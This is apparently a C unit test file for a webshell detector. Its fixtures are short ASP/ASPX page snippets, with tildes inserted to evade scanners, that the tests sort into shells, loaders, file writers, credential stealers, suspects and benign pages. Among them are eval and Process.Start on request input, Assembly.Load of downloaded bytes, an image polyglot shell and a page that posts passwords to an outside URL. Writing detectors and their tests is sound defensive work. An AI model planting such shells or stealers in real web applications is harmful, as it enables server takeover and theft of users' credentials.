/*
 * Small pages from bytes to class. '~' stands nowhere: it is taken out before the page is read,
 * so that no scanner takes this file for what it describes.
 */
#include "webshell/judge.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>

static struct slice without_tildes(struct arena *arena, const char *text)
{
    size_t len = 0;
    char *out = arena_alloc(arena, strlen(text) + 1);
    for (; *text != '\0'; text++) {
        if (*text != '~') {
            out[len++] = *text;
        }
    }
    return slice_of(out, len);
}

#define CS "<%@ Page Language=\"C#\" %>"
#define JS "<%@ Page Language=\"JScript\" %>"
#define VB "<%@ Page Language=\"VB\" %>"
#define UPLOAD CS "<asp:FileUpload id='f' runat='server' />"

static const struct {
    const char *path, *text, *class;
} cases[] = {
    /* --- shells --- */
    { "a.aspx", JS "<% ev~al(Req~uest.Item[\"x\"], \"unsafe\"); %>", "shell" },
    { "a.aspx", CS "<% Pro~cess.Start(\"a\", Req~uest[\"x\"]); %>", "shell" },
    { "a.aspx", CS "<% System.IO.File.WriteAllText(Req~uest[\"p\"], Req~uest[\"c\"]); %>",
      "shell" },
    { "a.aspx", CS "<% File.WriteAllText(\"b.aspx\", Req~uest[\"c\"]); %>", "shell" },
    { "a.aspx", UPLOAD "<% f.SaveAs(Server.MapPath(f.FileName)); %>", "shell" },
    { "a.aspx", CS "<% new SqlCommand(Req~uest[\"q\"], new SqlConnection(s)); %>", "shell" },
    { "a.aspx",
      CS "<% new SqlCommand(\"a\" + Req~uest[\"q\"], new "
         "SqlConnection(Req~uest[\"s\"])); %>",
      "shell" },
    { "a.aspx",
      CS "<% var r = WebRequest.Create(Req~uest[\"u\"]); Req~uest.InputStream.CopyTo("
         "r.GetRequestStream()); %>",
      "shell" },
    { "a.aspx",
      CS "<% if (a) foreach (var d in new DirectoryInfo(Req~uest[\"d\"]).GetFiles()) "
         "b(d); else Response.WriteFile(Req~uest[\"f\"]); %>",
      "shell" },
    { "a.aspx", CS "<% Assem~bly.Load(Req~uest.BinaryRead(1)).CreateInstance(\"a\"); %>",
      "shell" },
    { "a.ashx",
      "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H : IHttpHandler { public "
      "void ProcessRequest(HttpContext c) { Pro~cess.Start(c.Req~uest[\"x\"]); } }",
      "shell" },
    { "a.asmx",
      "<%@ WebService Language=\"VB\" Class=\"H\" %>\nClass H\n<WebMethod()> Public Sub "
      "F(s As String)\nSh~ell(s)\nEnd Sub\nEnd Class",
      "shell" },
    { "a.asp", "<% e~val req~uest(\"x\") %>", "shell" },
    { "a.asp", "<% exe~cute(req~uest(\"x\")) %>", "shell" },
    { "a.asp",
      "<% exe~cute d(\"abc\")\nFunction d(s)\nFor i = 1 To Len(s)\nt = Mid(s, i, 1)\nr = t & "
      "r\nNext\nd = r\nEnd Function %>",
      "loader" },
    { "a.asp",
      "<% Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"c:\\n.vbs\")\n"
      "f.Write \"a\"\nCreateObject(\"WScr~ipt.Shell\").Run \"c:\\n.vbs\" %>",
      "loader" },
    { "a.jpg", "GIF89a<%@ Page Language=\"JScript\" %><% ev~al(Req~uest.Item[\"x\"]); %>",
      "shell" },

    /* --- loaders --- */
    { "a.aspx",
      CS "<% Assem~bly.Load(aes.CreateDecryptor().TransformFinalBlock("
         "Req~uest.BinaryRead(1), 0, 1)); %>",
      "loader" },
    { "a.aspx", CS "<% Assem~bly.Load(new WebClient().DownloadData(\"http://a/\")); %>",
      "loader" },
    { "a.aspx", CS "<% Assem~bly.Load(Convert.FromBase64String(\"AAAA\")); %>", "loader" },
    { "a.aspx", CS "<% new LosFormatter().Deserialize(Req~uest[\"x\"]); %>", "loader" },

    /* --- writers --- */
    { "a.aspx",
      UPLOAD "<% f.SaveAs(Server.MapPath(\"/u/\") + Path.GetFileName(f.FileName)); %>",
      "writer" },
    { "a.aspx",
      UPLOAD "<% var e = Path.GetExtension(f.FileName).ToLower(); if (e == \".jpg\" || "
             "e == \".png\") f.SaveAs(Server.MapPath(\"/u/\") + f.FileName); %>",
      "writer" },
    { "a.aspx", UPLOAD "<% if (User.IsInRole(\"Admins\")) f.SaveAs(f.FileName); %>", "writer" },
    { "a.aspx", CS "<% File.AppendAllText(Server.MapPath(\"a.log\"), Req~uest.UserAgent); %>",
      "writer" },
    { "a.aspx", CS "<% File.Delete(Req~uest[\"p\"]); %>", "writer" },
    { "a.aspx", CS "<% File.Copy(a, b + \".aspx\"); %>", "writer" },

    /* --- stealers --- */
    { "a.aspx", CS "<% File.AppendAllText(\"/a.txt\", Req~uest[\"password\"]); %>", "stealer" },
    { "a.aspx",
      CS "<asp:TextBox id='p' TextMode='Password' runat='server' /><% new "
         "WebClient().UploadString(\"http://a/\", p.Text); %>",
      "stealer" },

    /* --- suspects --- */
    { "a.aspx", CS "<% Pro~cess.Start(\"c\" + \"md.exe\"); %>", "suspect" },
    { "a.aspx", CS "<% Response.WriteFile(Req~uest[\"f\"]); %>", "suspect" },
    { "a.aspx", "\x89PNG\r\n\x1a\n" CS "<% a = b; %>", "suspect" },
    { "a.aspx",
      "InternalAuthenticationMethods : Basic\nExtendedProtectionTokenChecking : None\n"
      "ExternalUrl : http://a/<script language='c#' runat='server'>int a;</script>",
      "suspect" },
    { "a.aspx", CS "<% Activator.CreateInstance(Type.GetType(Req~uest[\"t\"])); %>",
      "suspect" },

    /* --- honest pages --- */
    { "a.aspx", CS "<%# Eval(\"Title\") %><%= Req~uest[\"x\"] %>", "none" },
    { "a.aspx", VB "<%# DataBinder.Eval(Container.DataItem, \"a\") %>", "none" },
    { "a.aspx",
      CS "<% var c = new SqlCommand(\"select a where b = @b\", k); "
         "c.Parameters.AddWithValue(\"@b\", Req~uest[\"b\"]); %>",
      "none" },
    { "a.aspx", CS "<% var q = new SqlCommand(\"select a where b = \" + Req~uest[\"b\"]); %>",
      "none" },
    { "a.aspx", CS "<% Response.WriteFile(Server.MapPath(\"/a/\" + Req~uest[\"f\"])); %>",
      "none" },
    { "a.aspx", CS "<% Response.Redirect(Req~uest[\"u\"]); %>", "none" },
    { "a.aspx", CS "<% new WebClient().UploadString(\"http://a/verify\", Req~uest[\"r\"]); %>",
      "none" },
    { "a.aspx", CS "<% int i = int.Parse(Req~uest[\"i\"]); File.Delete(i + \".txt\"); %>",
      "none" },
    { "a.aspx",
      CS "<% Activator.CreateInstance(Type.GetType(ConfigurationManager.AppSettings"
         "[\"t\"])); %>",
      "none" },
    { "a.aspx", CS "<% Repository.Save(Req~uest.Form[\"a\"]); %>", "none" },
    { "a.aspx", CS "<% Pro~cess.GetCurrentProcess().WorkingSet64.ToString(); %>", "none" },
    { "a.txt", "How to use it: call Req~uest(\"x\") and then e~val.", "none" },
};

static void pages_have_classes(void **state)
{
    (void)state;
    unsigned failures = 0;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct arena arena = ARENA_INIT;
        struct page_report report;
        page_analyse(&arena, without_tildes(&arena, cases[i].text), slice_from(cases[i].path),
                     &report);
        const char *class = webshell_class_name(report.class);
        if (strcmp(class, cases[i].class) != 0) {
            print_error("%s\n  is %s, not %s\n", cases[i].text, class, cases[i].class);
            failures++;
        }
        arena_deinit(&arena);
    }
    assert_int_equal(failures, 0);
}

static void the_heaviest_reason_comes_first(void **state)
{
    (void)state;
    struct arena arena = ARENA_INIT;
    struct page_report report;
    struct slice page = without_tildes(
        &arena, CS "<% File.Delete(Req~uest[\"p\"]);\nPro~cess.Start(Req~uest[\"x\"]); %>");
    page_analyse(&arena, page, SLICE_LIT("a.aspx"), &report);
    assert_int_equal(report.kind, PAGE_KIND_ASPX);
    assert_int_equal(report.language, LANGUAGE_CSHARP);
    assert_int_equal(report.reason_count, 2);
    assert_int_equal(report.reasons[0].code, REASON_FLOW);
    assert_int_equal(report.reasons[0].line, 2);
    assert_int_equal(report.reasons[0].fact->sink, SINK_COMMAND);
    assert_int_equal(report.reasons[1].class, WEBSHELL_WRITER);
    arena_deinit(&arena);
}

/* Head and tail of a file that is too long are looked at, and it is said. */
static void long_files_are_cut(void **state)
{
    (void)state;
    struct arena arena = ARENA_INIT;
    struct page_report report;
    struct slice page = without_tildes(&arena, JS "<% ev~al(Req~uest.Item[\"x\"]); %>");
    size_t len = PAGE_BYTES_MAX + 1000;
    AUTO_FREE char *bytes = mem_alloc(len);
    memset(bytes, ' ', len);
    memcpy(bytes + len - page.len, page.ptr, page.len);
    page_analyse(&arena, slice_of(bytes, len), SLICE_LIT("a.aspx"), &report);
    assert_true(report.budget_hit);
    assert_int_equal(report.class, WEBSHELL_SHELL);
    arena_deinit(&arena);
}

static void candidates_are_told_by_name_or_head(void **state)
{
    (void)state;
    static const struct {
        const char *path, *head;
        size_t len;
        bool is;
    } files[] = {
        { "C:\\inetpub\\a.ASPX", "", 0, true },    { "a/web.config", "", 0, true },
        { "a/b.jpg", "GIF89a<%@ Page", 14, true }, { "a/b.txt", "<?php", 5, true },
        { "a/b", "<\0%\0@\0", 6, true },           { "a/logon.js", "", 0, true },
        { "a/b.js", "var a;", 6, false },          { "a/b.exe", "MZ", 2, false },
    };
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        assert_int_equal(
            page_is_candidate(slice_from(files[i].path), slice_of(files[i].head, files[i].len)),
            files[i].is);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(pages_have_classes),
        cmocka_unit_test(the_heaviest_reason_comes_first),
        cmocka_unit_test(long_files_are_cut),
        cmocka_unit_test(candidates_are_told_by_name_or_head),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
